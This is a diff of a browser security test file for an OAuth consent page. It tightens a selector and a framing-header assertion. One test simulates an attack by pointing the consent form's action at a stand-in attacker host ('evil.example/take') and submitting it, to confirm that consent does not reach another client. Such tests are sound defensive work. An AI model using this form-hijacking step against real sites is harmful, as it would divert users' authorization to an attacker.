@@ -92,7 +92,7 @@ describe('the way from consent to the client (row 80)', () => {
   test('leads to no other client', async () => {
     await using watched = await openSignedIn()
     const { page, complaints } = watched
-    await page.locator('form').evaluate((form: HTMLFormElement) => {
+    await page.locator('#consent').evaluate((form: HTMLFormElement) => {
       form.action = 'https://evil.example/take'
       form.requestSubmit(form.querySelector<HTMLButtonElement>('#allow'))
     })
@@ -120,7 +120,7 @@ describe('frames (row 64)', () => {
     await using watched = await openWatchedPage(browser)
     const frame = await framed(watched.page, url())
     await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
-    expect(watched.complaints.join()).toMatch(/frame-ancestors|X-Frame-Options/i)
+    expect(watched.complaints.join()).toMatch(/frame-ancestors/)
   })
 
   test('carry the answer of prompt=none to the client', async () => {
